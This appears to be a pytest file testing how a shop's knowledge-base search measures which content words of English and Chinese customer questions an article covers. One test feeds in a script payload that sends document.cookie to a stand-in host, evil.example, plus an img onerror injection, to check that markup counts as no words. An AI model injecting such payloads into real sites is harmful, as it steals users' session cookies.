"""Coverage: the share of a question's content words a source contains, the scope's measure of aboutness."""

from __future__ import annotations

import pytest

from knowledge.retrieval.coverage import PASSING_MENTION, question_units, root
from knowledge.retrieval.search import search
from knowledge.tests.factories import article_create

pytestmark = pytest.mark.django_db


def words(text: str) -> list[str]:
    return [unit.word for unit in question_units(text)]


@pytest.mark.parametrize(("question", "content"), [
    ("How long does it take to get my refund?", ["refund"]),
    ("Could u tell me whether you ship to Tibet, pls", ["ship", "tibet"]),
    ("I don't know when my parcel arrives", ["parcel", "arrive"]),
    ("请问退款多久能到账呢", ["退款", "账"]),  # segmented 能到 / 账: the helper goes, the noun stays
    ("能用花呗付款吗", ["花呗", "付款"]),  # 花呗: a word jieba's dictionary lacks (terms.COMMERCE_WORDS)
    ("公司报销要开专票怎么弄", ["公司", "报销", "专票"]),
])
def test_the_words_of_asking_are_not_content(question, content) -> None:
    assert sorted(words(question)) == sorted(content)  # places come first, the other words in their order


def test_chinese_compounds_carry_their_inner_words_and_single_characters_weigh_half() -> None:
    [battery, durable] = question_units("手机电池不耐用")
    assert battery.word == "手机电池" and {"手机", "电池"} <= set(battery.parts) and durable.word == "耐用"
    [coupon, refund] = question_units("拿券能换吗")  # "拿券能" glued up: its characters stand for it
    assert "券" in coupon.parts and refund.word == "换" and refund.weight == 0.5
    [coupon, refund] = question_units("这张券能退吗")  # "这张": which one, not what
    assert coupon.word == "券" and refund.word == "退"
    units = {unit.word: unit for unit in question_units("能用花呗付款吗")}
    assert units["花呗"].weight == 1.0 and units["付款"].weight == 1.0


@pytest.mark.parametrize(("one", "other"), [
    ("shipping", "ship"), ("shipped", "ships"), ("delivered", "delivery"), ("refunded", "refunds"),
    ("arrives", "arrive"), ("payment", "pay"),
])
def test_an_english_words_forms_share_a_root(one, other) -> None:
    assert root(one) == root(other)


@pytest.fixture
def shop(fake_ollama) -> None:
    article_create(
        title="Shipping and delivery", tags="courier, 配送",
        body="## Delivery times\n\nEvery parcel is packed in our Hangzhou studio. Parcels are dispatched within 24 "
             "hours and delivered in 2-4 days by SF Express courier. Deliveries to Tibet take longer.",
    )
    article_create(title="退货与退款", language="zh-hans",
                   body="## 退款时间\n\n收到退货后三到五个工作日内退款到原支付账户。退款到账时间以银行为准。")


def coverage_of(question: str, title: str) -> float:
    return next(hit.coverage for hit in search(question, limit=10, include_weak=True).hits if hit.title == title)


@pytest.mark.parametrize(("question", "title", "at_least"), [
    ("Do you deliver to Tibet?", "Shipping and delivery", 0.75),  # deliver: its title's; Tibet: said once
    ("how long til my parcell is deliverd", "Shipping and delivery", 0.99),  # slips of the keyboard
    ("退款多久到账", "退货与退款", 0.8),
    ("Which courier do you use?", "Shipping and delivery", 1.0),  # a tag is what the article is about
])
def test_a_source_about_the_question_covers_it(shop, question, title, at_least) -> None:
    assert coverage_of(question, title) >= at_least


@pytest.mark.parametrize(("question", "title", "at_most"), [
    ("What's the weather like in Hangzhou?", "Shipping and delivery", 0.25),  # one word, said in passing
    ("Recommend a hotel in Hangzhou near the lake", "Shipping and delivery", 0.2),
    ("退款给我讲个笑话再写首诗", "退货与退款", 0.34),
])
def test_one_shared_word_is_not_coverage(shop, question, title, at_most) -> None:
    assert coverage_of(question, title) <= at_most


def test_a_question_of_several_messages_is_covered_as_its_best_line(shop) -> None:
    alone = coverage_of("Which courier do you use?", "Shipping and delivery")
    assert coverage_of("I love your oolong, my mother adores it too\nWhich courier do you use?",
                       "Shipping and delivery") == alone


def test_a_question_without_content_words_has_no_coverage(shop) -> None:
    hits = search("can you tell me, please?", limit=10, include_weak=True).hits
    assert all(hit.coverage is None for hit in hits)


def test_a_long_message_is_covered_as_its_question_sentence(shop) -> None:
    rambling = ("Hi! I've bought from you for years and love the oolong, my mother adores it too, and my "
                "colleague just moved to the mountains. How long does delivery to Tibet take?")
    assert coverage_of(rambling, "Shipping and delivery") >= 0.5
    assert coverage_of("我一直在你们家买茶，朋友也很喜欢，上个月刚换了工作。退款多久到账？", "退货与退款") >= 0.5


def test_markup_links_and_addresses_are_no_words_of_a_subject(shop) -> None:
    assert words("<script>fetch('https://evil.example/?c='+document.cookie)</script>") == []
    assert words('<img src=x onerror=alert(1)> see www.studio.example or mail me@studio.example') == ["mail"]


def test_an_article_covers_what_its_sections_cover_between_them(fake_ollama) -> None:
    article_create(title="Payment", body="## Cards\n\nWe take Visa and Mastercard.\n\n"
                   "## On delivery\n\nCash on delivery is not offered; pay online before the courier comes.")
    [hit, *_] = search("can I pay cash or Visa", limit=2, include_weak=True).hits
    assert hit.article_coverage > hit.coverage  # "visa" in one section, "cash" in the other


def test_a_follow_up_is_covered_with_the_question_it_follows(shop) -> None:
    from knowledge.embedding import embed_queries

    follow_up = "and to Lhasa?"
    # On its own: a place no article names, covered in passing by the region the article names (Tibet).
    assert 0 < coverage_of(follow_up, "Shipping and delivery") <= PASSING_MENTION
    joined = "Do you deliver to Tibet?\n" + follow_up
    query_vector, context_vector = embed_queries([follow_up, joined])
    [hit, *_] = search(follow_up, query_vector=query_vector, limit=3, include_weak=True,
                       context=(joined, context_vector)).hits
    assert hit.title == "Shipping and delivery" and hit.coverage >= 0.5


@pytest.mark.parametrize(("question", "content"), [
    ("whats the warrenty, im asking", ["warrenty"]),  # "what's" and "I'm" typed without apostrophes
    ("茶壶用了三个月，自己裂了", ["茶壶", "裂"]),  # a time span and a reflexive say nothing of the subject
    ("半年前买的发票还能补开吗", ["买", "发票", "补开"]),
    ("订了两盒，三天前付的款", ["订", "付", "款"]),
    ("what is 17 times 23", ["17", "23"]),  # an English question's numbers stay its words
])
def test_quantities_reflexives_and_unapostrophed_contractions_are_not_content(question, content) -> None:
    assert words(question) == content


def test_a_misspelt_or_inflected_word_finds_the_articles_form(fake_ollama) -> None:
    article_create(title="Warranty", body="## Cover\n\nAll teaware has a warranty. Parcels arrive in 2-4 days.")
    for question in ("whats the warrenty on cups", "when will it arives"):
        hits = search(question, limit=3).hits  # nothing of the question is spelt as the article spells it
        assert [hit.title for hit in hits] == ["Warranty"] and hits[0].keyword_score > 0, question
